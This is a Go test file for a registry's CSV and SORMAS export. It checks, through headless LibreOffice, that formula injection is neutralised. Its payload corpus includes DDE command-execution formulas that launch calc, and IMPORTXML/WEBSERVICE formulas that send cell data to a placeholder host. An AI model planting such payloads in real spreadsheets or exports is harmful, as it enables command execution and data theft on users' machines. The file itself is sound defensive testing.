package export

import (
	"bytes"
	"context"
	"encoding/xml"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cityhall/registry/registry"
)

// formulaCorpus are cell payloads that spreadsheets have been made to run
// as formulas: plain, prefixed with white space or control characters,
// full-width, DDE, exfiltration through functions.
var formulaCorpus = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", `=HYPERLINK("http://x","y")`,
	"\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "  +1+1", "\u00a0=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1",
	"=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	`=IMPORTXML(CONCAT("http://x/?",A1),"//a")`, `=WEBSERVICE("http://x")`,
	"\u2060=1+1", "\ufeff=1+1", "\u200b=1+1", "=1+1\n=2+2", "a;=1+1", "a,=1+1", `"=1+1"`, "'=1+1",
	`="a"&"b"`, "==1", "=", "+", "-", "@", "=1+1 ", "-1", "+1",
}

// phoneCorpus are phone numbers that must come out as text showing their
// '+' (or leading zero).
var phoneCorpus = []string{"+49 2931 1234", "+4929311234", "+49 (2931) 12-34", "+49/2931/1234", "02931 1234", "029311234", "(02931) 1234"}

// corpusBundle puts every payload into every text field of one record, and
// one record per phone number.
func corpusBundle() *Bundle {
	in := time.Date(2021, 3, 5, 13, 30, 0, 0, time.UTC)
	b := &Bundle{Header: Header{CaseRef: `=HYPERLINK("http://x","y")`}}
	for _, p := range formulaCorpus {
		c := &registry.Contact{GivenName: p, FamilyName: p, Street: p, HouseNumber: p, Postcode: p, City: p, Phone: p, Email: p, Host: p, Appointment: p}
		b.Records = append(b.Records, Record{VisitID: p, Site: p, Area: p, CheckIn: in, ContactMinutes: 5, Contact: c})
	}
	for _, ph := range phoneCorpus {
		c := &registry.Contact{GivenName: "Anna", FamilyName: "Schmidt", Street: "Hauptstraße", HouseNumber: "12-14", Postcode: "01067", City: "Dresden", Phone: ph}
		b.Records = append(b.Records, Record{VisitID: registry.NewID(), Site: "rathaus", CheckIn: in, CheckOut: ptr(in.Add(time.Hour)), Contact: c})
	}
	return b
}

// writeControl writes the corpus without neutralisation (quoting only), to
// prove that LibreOffice, with the options used, does run formulas.
func writeControl(w io.Writer, sep rune) error {
	rw := newRowWriter(w, sep)
	rw.row("a", "b")
	for _, p := range formulaCorpus {
		rw.row(p, "x")
	}
	return rw.flush()
}

// sofficePath returns LibreOffice's soffice, failing the test when it is
// missing unless REGISTRY_TEST_LIBREOFFICE=skip.
func sofficePath(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("soffice")
	if err == nil {
		return path
	}
	if os.Getenv("REGISTRY_TEST_LIBREOFFICE") == "skip" {
		t.Skip("soffice not found and REGISTRY_TEST_LIBREOFFICE=skip")
	}
	t.Fatalf("soffice not found: install LibreOffice (apt-get install libreoffice-calc-nogui) or set REGISTRY_TEST_LIBREOFFICE=skip")
	return ""
}

// convert runs one soffice to convert the files to flat ODS with the CSV
// import options, worst case: formulas evaluated, special numbers detected,
// quoted fields not forced to text, German locale for ';'.
func convert(t *testing.T, soffice, profile string, sep rune, files ...string) string {
	t.Helper()
	out := t.TempDir()
	sepCode, lang := "44", "1033"
	if sep == ';' {
		sepCode, lang = "59", "1031"
	}
	// Tokens: separator, text delimiter ("), charset (UTF-8), first line,
	// column formats (standard), language, quoted field as text, detect
	// special numbers, -, -, remove spaces, -, evaluate formulas.
	filter := "CSV:" + sepCode + ",34,76,1,," + lang + ",false,true,,,false,,true"
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	args := append([]string{"--headless", "--norestore", "-env:UserInstallation=file://" + profile,
		"--convert-to", "fods", "--infilter=" + filter, "--outdir", out}, files...)
	cmd := exec.CommandContext(ctx, soffice, args...)
	cmd.Env = append(os.Environ(), "HOME="+profile)
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, msg)
	}
	return out
}

func TestCSVInLibreOffice(t *testing.T) {
	soffice := sofficePath(t)
	profile := t.TempDir()
	b := corpusBundle()
	for _, sep := range []rune{',', ';'} {
		dir := t.TempDir()
		files := map[string]func(io.Writer) error{
			"corpus.csv":  func(w io.Writer) error { return WriteCSV(w, b, sep) },
			"sormas.csv":  func(w io.Writer) error { return WriteSORMAS(w, b, sep) },
			"control.csv": func(w io.Writer) error { return writeControl(w, sep) },
		}
		var paths []string
		for name, write := range files {
			var buf bytes.Buffer
			if err := write(&buf); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			paths = append(paths, writeFile(t, filepath.Join(dir, name), buf.Bytes()))
		}
		out := convert(t, soffice, profile, sep, paths...)
		t.Run("sep "+string(sep), func(t *testing.T) {
			checkCorpus(t, readSheet(t, filepath.Join(out, "corpus.fods")), b)
			checkSORMAS(t, readSheet(t, filepath.Join(out, "sormas.fods")), b)
			if got := formulas(readSheet(t, filepath.Join(out, "control.fods"))); got < 5 {
				t.Errorf("control file without neutralisation: %d formula cells, want many (does LibreOffice evaluate formulas?)", got)
			}
		})
	}
}

func writeFile(t *testing.T, path string, data []byte) string {
	t.Helper()
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// lineEnds normalises what LibreOffice makes of CR and LF in a cell.
func lineEnds(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
}

func checkCorpus(t *testing.T, rows [][]odsCell, b *Bundle) {
	t.Helper()
	if n := formulas(rows); n != 0 {
		t.Errorf("CSV: %d cells with a formula, want 0", n)
	}
	if got, want := len(rows), 1+len(b.Records); got < want {
		t.Fatalf("CSV: %d rows, want %d", got, want)
	}
	if got := rows[0][0].text; got != "Aktenzeichen" {
		t.Errorf("CSV: first header cell = %q, want Aktenzeichen (BOM read as UTF-8)", got)
	}
	textCols := []int{0, 1, 2, 3, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17}
	for i, p := range formulaCorpus {
		row := rows[1+i]
		for _, col := range textCols {
			want := lineEnds(csvCell(p, col == 11 || col == 12 || col == 14))
			if col == 0 {
				want = csvCell(b.Header.CaseRef, false)
			}
			if c := cellAt(row, col); c.text != want || c.valueType != "string" {
				t.Errorf("CSV row %d col %q: %s %q, want string %q", 1+i, csvColumns[col], c.valueType, c.text, want)
			}
		}
	}
	for i, ph := range phoneCorpus {
		c := cellAt(rows[1+len(formulaCorpus)+i], 14)
		if shown := strings.TrimPrefix(c.text, wordJoiner); c.valueType != "string" || shown != ph {
			t.Errorf("CSV phone %q: %s %q, want text showing %q", ph, c.valueType, c.text, ph)
		}
		if c := cellAt(rows[1+len(formulaCorpus)+i], 12); c.valueType != "string" || !strings.HasSuffix(c.text, "01067") {
			t.Errorf("CSV postcode: %s %q, want text 01067", c.valueType, c.text)
		}
	}
}

func checkSORMAS(t *testing.T, rows [][]odsCell, b *Bundle) {
	t.Helper()
	if n := formulas(rows); n != 0 {
		t.Errorf("SORMAS: %d cells with a formula, want 0", n)
	}
	if got, want := len(rows), 3+len(b.Records); got < want {
		t.Fatalf("SORMAS: %d rows, want %d", got, want)
	}
	for i, p := range formulaCorpus {
		row := rows[3+i]
		for _, col := range []int{1, 2, 4, 5, 6, 7, 8, 9} {
			if c, want := cellAt(row, col), lineEnds(importCell(p)); c.text != want {
				t.Errorf("SORMAS row %d col %d: %q, want %q", 3+i, col, c.text, want)
			}
		}
		if c := cellAt(row, 0); !strings.Contains(c.text, lineEnds(clean(p))) {
			t.Errorf("SORMAS row %d: description %q lacks the payload", 3+i, c.text)
		}
	}
}

func formulas(rows [][]odsCell) int {
	n := 0
	for _, r := range rows {
		for _, c := range r {
			if c.formula {
				n++
			}
		}
	}
	return n
}

func cellAt(row []odsCell, col int) odsCell {
	if col < len(row) {
		return row[col]
	}
	return odsCell{}
}

// odsCell is a cell of a flat ODS sheet: its text as shown (paragraphs
// joined by "\n"), office:value-type, and whether it has a formula.
type odsCell struct {
	text, valueType string
	formula         bool
}

// readSheet parses the first sheet of a flat ODS file.
func readSheet(t *testing.T, path string) [][]odsCell {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("LibreOffice output: %v", err)
	}
	rows, err := parseFODS(data)
	if err != nil {
		t.Fatalf("parse %s: %v", filepath.Base(path), err)
	}
	return rows
}

// readSheets parses every sheet of a flat ODS file, by name.
func readSheets(t *testing.T, path string) map[string][][]odsCell {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("LibreOffice output: %v", err)
	}
	sheets, _, err := parseFODSSheets(data)
	if err != nil {
		t.Fatalf("parse %s: %v", filepath.Base(path), err)
	}
	return sheets
}

// parseFODS returns the first sheet.
func parseFODS(data []byte) ([][]odsCell, error) {
	sheets, order, err := parseFODSSheets(data)
	if err != nil || len(order) == 0 {
		return nil, err
	}
	return sheets[order[0]], nil
}

func parseFODSSheets(data []byte) (map[string][][]odsCell, []string, error) {
	sheets := map[string][][]odsCell{}
	var order []string
	var rows [][]odsCell
	var cell *odsCell
	start, paras, inPara := 0, 0, false
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			if len(order) > 0 {
				sheets[order[len(order)-1]] = rows
			}
			return sheets, order, nil
		} else if err != nil {
			return nil, nil, err
		}
		switch el := tok.(type) {
		case xml.StartElement:
			switch el.Name.Local {
			case "table":
				if len(order) > 0 {
					sheets[order[len(order)-1]] = rows
				}
				order, rows = append(order, attr(el, "name")), nil
			case "table-row":
				rows = append(rows, nil)
			case "table-cell", "covered-table-cell":
				c := odsCell{valueType: attr(el, "value-type"), formula: attr(el, "formula") != ""}
				repeat, _ := strconv.Atoi(attr(el, "number-columns-repeated"))
				start = len(rows[len(rows)-1])
				for range max(1, min(repeat, 64)) {
					rows[len(rows)-1] = append(rows[len(rows)-1], c)
				}
				cell, paras = &rows[len(rows)-1][start], 0
			case "p":
				if cell != nil && paras > 0 {
					cell.text += "\n"
				}
				paras++
				inPara = true
			case "s": // also in page headers and footers, outside any cell
				if cell != nil {
					n, _ := strconv.Atoi(attr(el, "c"))
					cell.text += strings.Repeat(" ", max(n, 1))
				}
			case "tab":
				if cell != nil {
					cell.text += "\t"
				}
			case "line-break":
				if cell != nil {
					cell.text += "\n"
				}
			}
		case xml.EndElement:
			switch el.Name.Local {
			case "p":
				inPara = false
			case "table-cell", "covered-table-cell":
				row := rows[len(rows)-1]
				for i := start + 1; i < len(row); i++ {
					row[i] = *cell // copies made for number-columns-repeated
				}
				cell = nil
			}
		case xml.CharData:
			if cell != nil && inPara {
				cell.text += string(el)
			}
		}
	}
}

func attr(el xml.StartElement, local string) string {
	for _, a := range el.Attr {
		if a.Name.Local == local {
			return a.Value
		}
	}
	return ""
}
